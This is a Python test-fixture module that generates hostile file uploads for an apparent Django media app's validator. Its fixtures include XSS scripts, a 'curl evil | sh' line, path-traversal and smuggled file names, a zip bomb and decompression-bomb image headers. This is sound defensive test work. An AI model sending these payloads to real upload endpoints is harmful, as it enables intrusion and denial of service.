"""Hostile upload cases, generated in memory, and raw multipart bodies to send them.

Django's test client strips path parts from file names, so bodies are built by
hand: the server sees exactly what a hostile client would send.
"""
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

from PIL import Image

from . import factories

BOUNDARY = "----mediadminHostileBoundary7MA4YWxkTrZu0gW"


@dataclass(frozen=True)
class Case:
    """One hostile (or tricky but acceptable) file."""

    label: str
    kind: str  # "image" or "document"
    filename: str
    data: bytes
    accepted: bool
    extension: str = ""  # the stored extension when accepted


def multipart(fields, files):
    """(body, content type) of a multipart/form-data request; file names sent verbatim."""
    out = io.BytesIO()
    for name, value in fields.items():
        out.write(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"\r\n\r\n".encode())
        out.write(str(value).encode() + b"\r\n")
    for name, filename, data in files:
        quoted = filename.replace('"', "%22")
        out.write(f"--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{name}\"; "
                  f"filename=\"{quoted}\"\r\nContent-Type: application/octet-stream\r\n\r\n"
                  .encode("utf-8", "surrogateescape"))
        out.write(data + b"\r\n")
    out.write(f"--{BOUNDARY}--\r\n".encode())
    return out.getvalue(), f"multipart/form-data; boundary={BOUNDARY}"


def _png_with_size(width, height):
    """A tiny PNG whose header claims width x height (a decompression bomb's header)."""
    data = bytearray(factories.image_bytes("PNG", (8, 8)))
    ihdr = struct.pack(">II", width, height) + bytes(data[24:29])
    data[16:29] = ihdr
    data[29:33] = struct.pack(">I", zlib.crc32(b"IHDR" + ihdr) & 0xFFFFFFFF)
    return bytes(data)


def _gif_frames(count):
    frames = [Image.new("P", (4, 4), i % 256) for i in range(count)]
    buf = io.BytesIO()
    frames[0].save(buf, "GIF", save_all=True, append_images=frames[1:], duration=10, optimize=False,
                   disposal=2)
    return buf.getvalue()


def _jpeg_with_exif(orientation=None, gps=False):
    img = Image.new("RGB", (60, 30), (10, 200, 30))
    exif = Image.Exif()
    if orientation:
        exif[0x0112] = orientation
    if gps:
        exif[0x8825] = {1: "N", 2: (52.0, 22.0, 0.0), 3: "E", 4: (4.0, 53.0, 0.0)}
    exif[0x010F] = "SpyCam Inc."  # Make
    buf = io.BytesIO()
    img.save(buf, "JPEG", exif=exif.tobytes())
    return buf.getvalue()


def _png_with_text():
    from PIL import PngImagePlugin

    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "<script>alert('png')</script>")
    buf = io.BytesIO()
    Image.new("RGB", (20, 20), (1, 2, 3)).save(buf, "PNG", pnginfo=info)
    return buf.getvalue()


def _zip(entries, compression=zipfile.ZIP_DEFLATED):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buf.getvalue()


def _docx(extra=None):
    return _zip({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>", **(extra or {})})


PDF = factories.pdf_bytes("hostile suite")
JPEG = factories.image_bytes("JPEG", (64, 48))
PNG = factories.image_bytes("PNG", (64, 48))
EPS = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 10 10\n(pwned) print showpage\n"
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script></svg>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64 + b"This program cannot be run"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 64
ZIP_BOMB = _docx({"word/media/bomb.bin": b"\x00" * (30 * 1024 * 1024)})


def image_cases():
    """Cases sent to image fields."""
    return [
        Case("truncated jpeg", "image", "photo.jpg", JPEG[: len(JPEG) // 2], False),
        Case("truncated png", "image", "photo.png", PNG[:60], False),
        Case("png bomb header 40k x 40k", "image", "bomb.png", _png_with_size(40000, 40000), False),
        Case("png of 100 megapixels", "image", "huge.png", _png_with_size(10000, 10000), False),
        Case("gif with 1000 frames", "image", "anim.gif", _gif_frames(1000), False),
        Case("eps named jpg", "image", "photo.jpg", EPS, False),
        Case("eps named eps", "image", "photo.eps", EPS, False),
        Case("html named jpg", "image", "photo.jpg", HTML, False),
        Case("svg with script", "image", "logo.svg", SVG, False),
        Case("svg named png", "image", "logo.png", SVG, False),
        Case("pdf named jpg", "image", "photo.jpg", PDF, False),
        Case("bmp not allowed", "image", "photo.bmp", factories.image_bytes("BMP", (8, 8)), False),
        Case("tiff not allowed", "image", "photo.tif", factories.image_bytes("TIFF", (8, 8)), False),
        Case("ico not allowed", "image", "favicon.ico", factories.image_bytes("ICO", (16, 16)), False),
        Case("empty image", "image", "empty.jpg", b"", False),
        Case("executable named jpg", "image", "photo.jpg", EXE, False),
        Case("jpeg with html appended", "image", "poly.jpg", JPEG + HTML, True, "jpg"),
        Case("jpeg with zip appended", "image", "poly.jpg", JPEG + _zip({"a.txt": "x"}), True, "jpg"),
        Case("png with script in a text chunk", "image", "text.png", _png_with_text(), True, "png"),
        Case("jpeg with gps exif", "image", "gps.jpg", _jpeg_with_exif(gps=True), True, "jpg"),
        Case("jpeg rotated by exif", "image", "rot.jpg", _jpeg_with_exif(orientation=6), True, "jpg"),
        Case("png named jpg", "image", "really-png.jpg", PNG, True, "png"),
        Case("jpeg with path traversal name", "image", "../../../etc/cron.d/x.jpg", JPEG, True, "jpg"),
    ]


def document_cases():
    """Cases sent to document fields."""
    return [
        Case("windows executable named pdf", "document", "invoice.pdf", EXE, False),
        Case("elf executable named pdf", "document", "invoice.pdf", ELF, False),
        Case("html named pdf", "document", "invoice.pdf", HTML, False),
        Case("html named txt", "document", "notes.txt", HTML, False),
        Case("svg with script named txt", "document", "notes.txt", SVG, False),
        Case("xml named csv", "document", "data.csv", b"<?xml version='1.0'?><a>1</a>", False),
        Case("shell script named txt", "document", "readme.txt", b"#!/bin/sh\ncurl evil | sh\n", False),
        Case("html after a text line", "document", "notes.txt", b"hello\n<script>alert(1)</script>", False),
        Case("utf-16 text", "document", "notes.txt", "<html>".encode("utf-16"), False),
        Case("docx with ../ entry", "document", "spec.docx", _docx({"../../evil.sh": "x"}), False),
        Case("docx with absolute entry", "document", "spec.docx", _docx({"/etc/passwd": "x"}), False),
        Case("docx zip bomb", "document", "spec.docx", ZIP_BOMB, False),
        Case("docx with too many entries", "document", "spec.docx",
             _docx({f"word/p{i}.xml": "" for i in range(2100)}), False),
        Case("plain zip named docx", "document", "spec.docx", _zip({"a.txt": "x"}), False),
        Case("eps named pdf", "document", "spec.pdf", EPS, False),
        Case("empty document", "document", "empty.pdf", b"", False),
        Case("jpeg named pdf", "document", "scan.pdf", JPEG, False),
        Case("pdf named exe", "document", "setup.exe", PDF, True, "pdf"),
        Case("pdf with traversal name", "document", "../../etc/passwd.pdf", PDF, True, "pdf"),
        Case("pdf with windows path", "document", "C:\\Users\\eve\\doc.pdf", PDF, True, "pdf"),
        Case("pdf with nul in name", "document", "a\x00.php.pdf", PDF, True, "pdf"),
        Case("pdf with 300-byte name", "document", "a" * 296 + ".pdf", PDF, True, "pdf"),
        Case("pdf with 90 cjk characters", "document", "文" * 90 + ".pdf", PDF, True, "pdf"),
        Case("pdf with bidi override", "document", "invoice\u202efdp.exe", PDF, True, "pdf"),
        Case("pdf named CON", "document", "CON.pdf", PDF, True, "pdf"),
        Case("pdf named PRN with no extension", "document", "PRN", PDF, True, "pdf"),
        Case("pdf with double extension", "document", "report.pdf.exe", PDF, True, "pdf"),
        Case("pdf named php", "document", "shell.php.pdf", PDF, True, "pdf"),
        Case("pdf with control characters", "document", "bell\x07\x1b[31m.pdf", PDF, True, "pdf"),
        Case("pdf with html in name", "document", "<img src=x onerror=alert(1)>.pdf", PDF, True, "pdf"),
        Case("csv named txt", "document", "list.csv", b"sku,name\nAB-1,Lamp\n", True, "csv"),
        Case("docx", "document", "spec.docx", _docx(), True, "docx"),
    ]


def all_cases():
    """Every case, images first."""
    return image_cases() + document_cases()
